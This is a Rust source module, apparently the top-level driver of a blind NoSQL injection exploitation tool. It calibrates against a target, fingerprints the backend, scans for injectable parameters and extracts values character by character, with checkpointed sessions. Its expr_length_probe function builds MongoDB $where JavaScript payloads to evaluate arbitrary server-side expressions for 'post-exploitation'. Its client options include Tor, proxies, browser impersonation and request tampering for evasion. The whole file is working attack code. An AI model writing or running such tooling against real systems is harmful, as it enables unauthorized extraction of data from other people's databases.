//! Orchestrator (C11): the top-level driver. Builds calibration and
//! baseline, then either resumes a checkpointed session or scans for
//! injection points and runs the length-probe → character-extractor
//! pipeline per confirmed parameter. Also drives the custom-expression
//! path used by the enumeration and post-exploitation wrappers.

use std::sync::Arc;

use crate::calibrate::{self, Calibration};
use crate::detect::reliable_check;
use crate::engine::Engine;
use crate::extractor;
use crate::fingerprint::{self, Backend};
use crate::http_client::ClientConfig;
use crate::length_probe;
use crate::request::RequestTemplate;
use crate::scanner;
use crate::session::SessionStore;
use crate::strategy::{strategies, supports_custom_expression, Strategy};
use crate::value::Value;

pub struct RunOptions {
    pub threads: usize,
    pub only_param: Option<String>,
    pub time_sec: Option<f64>,
    pub session_dir: std::path::PathBuf,
}

#[derive(Debug, Clone)]
pub struct ExtractedParam {
    pub param: String,
    pub strategy: &'static str,
    pub value: String,
}

pub struct RunReport {
    pub backend: Backend,
    pub extracted: Vec<ExtractedParam>,
}

pub fn build_engine(cfg: Arc<ClientConfig>, template: RequestTemplate, opts: &RunOptions, prefix: String, suffix: String) -> anyhow::Result<Engine> {
    let baseline = calibrate::capture_baseline(&cfg, &template).ok_or_else(|| anyhow::anyhow!("target did not respond to the baseline request"))?;
    let mut calibration: Calibration = calibrate::calibrate_network(&cfg, &template, &baseline, opts.time_sec);
    calibrate::calibrate_content(&cfg, &template, &baseline, &mut calibration);
    tracing::info!(
        avg_latency_ms = (calibration.avg_latency_s * 1000.0) as u64,
        jitter_ms = (calibration.jitter_s * 1000.0) as u64,
        sleep_s = calibration.sleep_s,
        dynamic_threshold = calibration.dynamic_threshold,
        "calibration complete"
    );
    Ok(Engine {
        template,
        client_cfg: cfg,
        baseline,
        calibration,
        prefix,
        suffix,
    })
}

pub fn run_blind_dump(engine: &Engine, opts: &RunOptions) -> anyhow::Result<RunReport> {
    let backend = fingerprint::fingerprint(engine, opts.time_sec);
    tracing::info!(backend = backend.label(), "fingerprint complete");

    let fingerprint = SessionStore::fingerprint(engine.template.method, &engine.template.url, &engine.template.body, None);
    let session = SessionStore::new(opts.session_dir.as_path(), &fingerprint)?;
    session.update_global("backend", serde_json::Value::String(backend.label().to_string()));
    let resume = session.load();

    let all_strategies = strategies();
    let mut extracted = Vec::new();

    let targets: Vec<(String, usize)> = if resume.injections.is_empty() {
        scanner::scan_all_injection_points(engine, opts.only_param.as_deref())?
            .into_iter()
            .map(|hit| (hit.param, hit.strategy_index))
            .collect()
    } else {
        resume
            .injections
            .iter()
            .filter_map(|(param, rec)| rec.strategy_index.map(|idx| (param.clone(), idx)))
            .collect()
    };

    if targets.is_empty() {
        tracing::warn!("no injectable parameters found");
    }

    for (param, strategy_idx) in targets {
        let strategy = &all_strategies[strategy_idx];
        session.update(&param, "strategy_index", serde_json::Value::from(strategy_idx));

        let existing = resume.injections.get(&param).and_then(|r| r.extracted_data.clone()).unwrap_or_default();
        let length = match resume.injections.get(&param).and_then(|r| r.data_length) {
            Some(len) => len,
            None => match length_probe::probe_length(engine, strategy, &param) {
                Some(len) => {
                    session.update(&param, "data_length", serde_json::Value::from(len));
                    len
                }
                None => {
                    tracing::warn!(param, "could not determine value length, skipping");
                    continue;
                }
            },
        };

        tracing::info!(param, strategy = strategy.name, length, "extracting value");
        let value = extractor::extract(engine, strategy, &param, length, &existing, opts.threads, &session);
        session.update(&param, "status", serde_json::Value::String("completed".to_string()));
        extracted.push(ExtractedParam {
            param,
            strategy: strategy.name,
            value,
        });
    }

    Ok(RunReport { backend, extracted })
}

/// Drives a single canned expression (from the enumeration/
/// post-exploitation wrappers) through a JS-capable strategy, returning
/// the extracted string the expression evaluates to. Mirrors the
/// reference tool's `process_custom_expression`, which only trusts the
/// two `$where`-based strategies since `$expr` can't embed arbitrary
/// server-side JS.
pub fn run_custom_expression(engine: &Engine, expr: &str) -> anyhow::Result<Option<String>> {
    let all_strategies = strategies();
    let candidates: Vec<&Strategy> = all_strategies.iter().filter(|s| supports_custom_expression(s)).collect();
    let param = engine
        .template
        .body
        .top_level_keys()?
        .into_iter()
        .next()
        .ok_or_else(|| anyhow::anyhow!("request body has no parameter to pivot the expression through"))?;

    for strategy in candidates {
        let probe_len = expr_length_probe(engine, strategy, &param, expr);
        if let Some(length) = probe_len {
            let fingerprint = SessionStore::fingerprint(engine.template.method, &engine.template.url, &engine.template.body, Some(expr));
            let session_dir = std::env::temp_dir().join("nosql_tomcat_sessions");
            let session = SessionStore::new(session_dir.as_path(), &fingerprint)?;
            let value = extractor::extract(engine, strategy, &param, length, "", 1, &session);
            return Ok(Some(value));
        }
    }
    Ok(None)
}

fn expr_length_probe(engine: &Engine, strategy: &Strategy, param: &str, expr: &str) -> Option<usize> {
    let ctx = engine.strategy_ctx();
    let (mut low, mut high) = (1usize, 1000usize);
    let mut found = None;
    while low <= high {
        let mid = low + (high - low) / 2;
        let code = format!("({expr}).toString().length >= {mid}");
        let payload_where = format!("{}{}{}", ctx.prefix, code, ctx.suffix);
        let mut map = indexmap::IndexMap::new();
        map.insert("$where".to_string(), Value::Str(payload_where));
        let body = engine.template.body.with_leaf(param, Value::Object(map)).ok()?;
        match reliable_check(engine, strategy, &body)? {
            true => {
                found = Some(mid);
                low = mid + 1;
            }
            false => {
                if mid == 0 {
                    break;
                }
                high = mid - 1;
            }
        }
    }
    found
}

#[allow(clippy::too_many_arguments)]
pub fn make_client_config(
    headers: indexmap::IndexMap<String, String>,
    timeout: std::time::Duration,
    retries: u8,
    global_delay: f64,
    auth_url: Option<String>,
    auth_data: Option<crate::http_client::AuthData>,
    impersonate: crate::http_client::BrowserProfile,
    user_agent_override: Option<String>,
    proxy: Option<String>,
    tor: bool,
    tamper: crate::tamper::TamperPipeline,
) -> Arc<ClientConfig> {
    Arc::new(ClientConfig {
        headers,
        timeout,
        retries,
        global_delay,
        auth_url,
        auth_data,
        impersonate,
        user_agent_override,
        proxy,
        tor,
        tamper,
    })
}
